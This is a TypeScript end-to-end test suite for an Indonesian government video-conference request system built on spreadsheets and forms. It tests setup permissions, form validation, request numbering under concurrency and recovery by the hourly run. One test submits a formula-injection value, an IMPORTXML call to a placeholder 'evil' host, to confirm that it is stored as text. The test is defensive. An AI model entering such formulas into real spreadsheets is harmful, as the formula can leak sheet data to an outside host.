import { validAnswers } from '../fixtures/answers';
import { validLetter } from '../fixtures/letter';
import { readFileSync } from 'fs';
import { ENGINE_ENTRY_POINTS, PANEL_ENTRY_POINTS } from '../../src/shared/entry-points';
import { ADMIN, e2eWorld, OFFICE } from './world';

describe('foundation on the built bundle', () => {
  it.each([
    ['engine', ENGINE_ENTRY_POINTS],
    ['panel', PANEL_ENTRY_POINTS],
  ])('the %s exposes exactly its intended entry points', (project, names) => {
    const e = e2eWorld();
    const code: string = readFileSync(`dist/${project}/Code.js`, 'utf8');
    const stubs = [...code.slice(0, code.indexOf('(()=>')).matchAll(/function (\w+)\(\)\{\}/g)].map((m) => m[1]);
    expect(stubs.sort()).toEqual([...names].sort());
    const bundle = project === 'engine' ? e.engine : e.panel;
    for (const name of names) expect(bundle.has(name)).toBe(true);
  });

  it('Setup is idempotent: the office account running it again changes nothing', () => {
    const e = e2eWorld();
    const sheetsBefore = e.ws.spreadsheet.sheetNames();
    const formId = e.formId();
    e.as(OFFICE);
    e.app.call('menuSetup');
    expect(e.ws.spreadsheet.sheetNames()).toEqual(sheetsBefore);
    expect(e.formId()).toBe(formId);
    expect(e.ws.triggers().map((t) => [t.handler, t.owner, t.project])).toEqual([
      ['onFpvcSubmit', OFFICE, e.product.engineProject.id],
      ['runHourly', OFFICE, e.product.engineProject.id],
      ['onSheetEdit', OFFICE, e.product.engineProject.id],
    ]);
    expect(sheetsBefore).toEqual(
      expect.arrayContaining(['Register', 'Riwayat', 'Pengaturan', 'Pengguna', 'Plh', 'Sumber Daya']),
    );
    expect(e.ws.ui.shown.at(-1)).toMatch(/tidak ada yang diubah/);
  });

  it('an admin who is not the office account is refused Setup, by name, and nothing is duplicated', () => {
    const e = e2eWorld();
    const before = { sheets: e.ws.spreadsheet.sheetNames(), form: e.formId(), triggers: e.ws.triggers().length };
    e.as(ADMIN);
    e.app.call('menuSetup');
    expect(e.ws.ui.shown.at(-1)).toBe(
      `alert: Layanan Vicon — Siapkan: Siapkan hanya dapat dijalankan oleh akun layanan (${OFFICE}). Masuk dengan akun itu lalu coba lagi.`,
    );
    expect({ sheets: e.ws.spreadsheet.sheetNames(), form: e.formId(), triggers: e.ws.triggers().length }).toEqual(
      before,
    );
    expect(e.ws.forms.all().length).toBe(1);
  });

  it('3 valid and 3 invalid submissions: 6 rows, invalid ones kept with reasons', () => {
    const e = e2eWorld();
    e.submit(validAnswers());
    e.submit(validAnswers({ 'Judul kegiatan': 'Bimtek SPBE' }));
    e.submit(validAnswers({ 'Tanggal kegiatan': '2026-11-23', 'Jam mulai': '13:00', 'Jam selesai': '14:00' }));
    e.submit(validAnswers({ Email: 'bukan email' }));
    e.submit(validAnswers({ 'Jam mulai': '11:00', 'Jam selesai': '10:00' }));
    e.submit(validAnswers({ 'Tanggal kegiatan': '2020-01-01', 'Perkiraan jumlah peserta': 'banyak' }));
    expect(e.column('Nomor')).toEqual([
      'VC-2026-0001',
      'VC-2026-0002',
      'VC-2026-0003',
      'VC-2026-0004',
      'VC-2026-0005',
      'VC-2026-0006',
    ]);
    const status = e.column('Status');
    expect(status.slice(0, 3)).toEqual(Array(3).fill('Menunggu Disposisi Kepala Dinas'));
    expect(status.slice(3)).toEqual(Array(3).fill('Perlu Perbaikan'));
    const reasons = e.column('Alasan Perbaikan');
    expect(reasons[3]).toBe('Alamat email tidak valid.');
    expect(reasons[4]).toBe('Jam selesai harus setelah jam mulai.');
    expect(String(reasons[5]).split('\n').sort()).toEqual([
      'Jumlah peserta tidak terbaca: "banyak".',
      'Perkiraan jumlah peserta wajib diisi dengan angka.',
      'Tanggal kegiatan sudah lewat.',
    ]);
    expect(String(e.column('Peringatan')[2])).toMatch(/kurang dari batas minimal H-1/);
    const history = e
      .sheet('Riwayat')
      .slice(1)
      .filter((r) => r[2] === 'masuk');
    expect(history).toHaveLength(6);
    expect(e.column('Tanggal Kegiatan')[0]).toBeInstanceOf(Date);
  });

  it('keeps formula-like and phone text as typed, never as formulas', () => {
    const e = e2eWorld();
    e.submit(
      validAnswers({
        'Nama pemohon': '=IMPORTXML("http://evil","//a")',
        'Instansi/OPD': '+SUM(A1)',
        Jabatan: '@kepala',
        Keterangan: '-1+2',
        'Nomor WhatsApp': '+62 812 3456 7890',
      }),
    );
    const sheet = e.ws.spreadsheet.sheetByName('Register')!;
    expect(sheet.formulas.flat().filter((f: string) => f !== '')).toEqual([]);
    expect(e.column('Nama Pemohon')[0]).toBe('=IMPORTXML("http://evil","//a")');
    expect(e.column('Instansi/OPD')[0]).toBe('+SUM(A1)');
    expect(e.column('Jabatan')[0]).toBe('@kepala');
    expect(e.column('Keterangan')[0]).toBe('-1+2');
    expect(e.column('WhatsApp')[0]).toBe('6281234567890');
  });

  it('50 concurrent submissions under lock contention: 50 rows, distinct gap-free numbers, 50 history entries', () => {
    const e = e2eWorld();
    for (let i = 0; i < 50; i++) {
      if (i % 7 === 3) e.locks.holdBy('eksekusi-lain', 3000);
      e.submit(validAnswers({ 'Judul kegiatan': `Rapat ${i}` }));
    }
    const ids = e.column('Nomor');
    expect(ids).toHaveLength(50);
    expect(new Set(ids).size).toBe(50);
    expect(ids).toEqual(Array.from({ length: 50 }, (_, i) => `VC-2026-${String(i + 1).padStart(4, '0')}`));
    expect(
      e
        .sheet('Riwayat')
        .slice(1)
        .filter((r) => r[2] === 'masuk'),
    ).toHaveLength(50);
    expect(e.locks.leaked).toBe(0);
  });

  it('a submission whose trigger failed (lock held too long) is caught up by the hourly run', () => {
    const e = e2eWorld();
    e.locks.holdBy('eksekusi-lain', 10 * 60 * 1000);
    expect(() => e.submit(validAnswers())).toThrow(/sibuk/);
    expect(e.column('Nomor')).toEqual([]);
    e.ws.clock.advance(11 * 60 * 1000);
    e.app.call('runHourly');
    expect(e.column('Nomor')).toEqual(['VC-2026-0001']);
    e.app.call('runHourly');
    expect(e.column('Nomor')).toEqual(['VC-2026-0001']);
  });

  it('an hourly run that cannot open the form fails visibly and loses no missed response', () => {
    const e = e2eWorld();
    const props = e.engineProps();
    e.app.call('runHourly');
    const formId = e.formId();
    e.locks.holdBy('eksekusi-lain', 10 * 60 * 1000);
    expect(() => e.submit(validAnswers())).toThrow(/sibuk/);
    e.ws.clock.advance(3 * 60 * 60 * 1000);
    props.setProperty('FPVC_FORM_ID', 'formulir-yang-hilang');
    expect(() => e.app.call('runHourly')).toThrow(/Ambil jawaban formulir: Formulir FPVC tidak ditemukan/);
    expect(e.column('Nomor')).toEqual([]);
    e.ws.clock.advance(3 * 60 * 60 * 1000);
    props.setProperty('FPVC_FORM_ID', formId);
    e.app.call('runHourly');
    expect(e.column('Nomor')).toEqual(['VC-2026-0001']);
  });

  it('a letter entered from the sidebar is numbered like a form request', () => {
    const e = e2eWorld();
    e.submit(validAnswers());
    e.as('kadis@kominfo.go.id');
    const r = e.app.call(
      'submitLetterRequest',
      validLetter({ applicantName: 'Budi', letterNumber: '005/77', srikandiNumber: 'SRK-1', eventDate: '2026-12-01' }),
    );
    expect(r).toEqual({ ok: true, value: expect.objectContaining({ id: 'VC-2026-0002' }) });
    expect(e.column('Sumber')).toEqual(['Formulir', 'Surat']);
  });
});
